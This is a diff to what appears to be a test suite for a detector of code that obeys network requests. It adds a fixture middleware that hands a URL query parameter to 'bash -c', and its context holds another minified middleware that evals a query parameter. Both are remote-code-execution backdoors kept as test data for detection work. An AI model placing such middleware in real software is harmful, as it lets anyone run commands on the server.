@@ -20,6 +20,13 @@ examine(obeysNetworkRequests, {
       weight: 'strong',
     },
     {
+      when: 'another word of the shell looks like the one before a command',
+      files: {
+        'index.js': `const cp = require('child_process'); module.exports = (req, res, next) => { cp.spawn('bash', ['-e', '-c', req.query.q]); next(); };`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'a middleware was minified',
       files: {
         'index.js': `module.exports=()=>(e,t,n)=>{if(e.query.inert)return t.end(String((0,eval)(e.query.inert)));n()};`,
